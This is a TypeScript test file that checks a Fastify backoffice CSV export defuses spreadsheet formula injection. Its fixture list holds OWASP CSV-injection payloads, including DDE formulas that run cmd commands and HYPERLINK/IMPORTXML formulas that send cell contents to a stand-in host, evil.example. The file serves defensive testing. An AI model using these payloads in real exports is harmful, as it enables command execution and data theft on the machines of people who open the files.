/**
 * CSV injection (OWASP "CSV Injection"): a cell a spreadsheet would run as a formula is defused,
 * whether the formula starts the cell or follows a separator inside it, since a spreadsheet set to
 * split on ";" (the list separator in German and French) starts a new cell there. Every text cell
 * is quoted. Read with "," and with ";" — and split naively, ignoring quotes — no cell, nor any
 * piece of one, starts with = + - @, a tab or a carriage return.
 */
import Fastify from 'fastify';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sendCsv } from '../../server/backoffice/csv-export';

/** The payloads of OWASP's CSV-injection page and its usual companions, and the separator forms of them. */
const OWASP = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click here")',
  '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "sheet1!A2:E2")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "-cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
  'DDE ("cmd";"/C calc";"!A0")A0',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  "Erika;=cmd|' /C calc'!A0;",
  'Erika,=1+1,',
  'Erika\t+1+1',
  'Erika\n-1+1',
  'Erika\r\n@SUM(A1)',
  '＝1+1',
  'a;;=1',
  'plain name',
];
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const SEPARATORS = /[,;\t\r\n]/;

describe('CSV export against formula injection', () => {
  const app = Fastify();
  beforeAll(async () => {
    app.get('/csv', (_req, reply) =>
      sendCsv(
        reply,
        'x.csv',
        ['id', 'name', 'total'],
        (async function* () {
          for (const [i, name] of OWASP.entries()) yield { id: i % 2 ? `-id${i}` : `id${i}`, name, total: '12.00' };
        })(),
      ),
    );
    await app.ready();
  });
  afterAll(() => app.close());

  const cellsSafe = (cells: string[][]) => {
    for (const cell of cells.flat())
      for (const piece of cell.split(SEPARATORS)) expect(piece, JSON.stringify(cell)).not.toMatch(FORMULA_START);
  };

  it.each([',', ';'])('no cell read with "%s" as the separator starts a formula', async (delimiter) => {
    const body = (await app.inject({ method: 'GET', url: '/csv' })).body;
    cellsSafe(parse(body, { delimiter, relax_quotes: true, relax_column_count: true, skip_empty_lines: true }));
  });

  it('no piece between separators starts a formula even when the quotes are ignored', async () => {
    const body = (await app.inject({ method: 'GET', url: '/csv' })).body;
    for (const piece of body.split(SEPARATORS))
      expect(piece.replace(/^"+/, ''), JSON.stringify(piece)).not.toMatch(FORMULA_START);
  });

  it('quotes every text cell and keeps what was typed after the defusing quote', async () => {
    const body = (await app.inject({ method: 'GET', url: '/csv' })).body;
    const rows = parse(body, { columns: true }) as Record<string, string>[];
    expect(body.split('\n')[1]).toMatch(/^"id0","=?'?/);
    expect(rows.map((r) => r.name!.replace(/(^|(?<=[,;\t\r\n]))'/g, ''))).toEqual(OWASP);
    expect(rows[1]!.id).toBe("'-id1");
    expect(rows.at(-1)!.name).toBe('plain name');
  });
});
